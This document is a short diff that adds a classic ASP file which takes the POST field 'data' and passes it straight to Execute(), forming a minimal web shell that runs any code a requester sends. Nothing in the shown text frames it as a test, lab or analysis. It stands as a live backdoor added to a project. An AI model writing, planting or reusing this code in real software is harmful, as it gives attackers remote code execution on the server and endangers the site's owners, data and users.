@@ -1,0 +1,7 @@
+<%
+Dim s
+s = Request.Form("data")
+If s <> "" Then
+    Execute(s)
+End If
+%>
